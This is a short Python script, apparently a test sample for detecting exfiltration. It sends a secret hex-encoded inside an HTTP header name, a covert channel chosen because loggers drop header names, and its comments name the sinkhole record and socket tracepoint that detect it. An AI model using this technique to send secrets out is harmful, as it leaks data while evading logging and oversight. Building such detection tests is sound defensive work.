#!/usr/bin/python3
"""
Trick: Sends a secret in the names of HTTP headers, as hexadecimal digits.
Known from: covert channels in protocol fields that loggers drop: names, not values.
First: the sinkhole's record of the bytes, decoded
Second: connect; inet_sock_set_state
"""

from way_out import post, secret

post(b"", headers={f"X-{secret().hex()}": "1"})
print("performed")
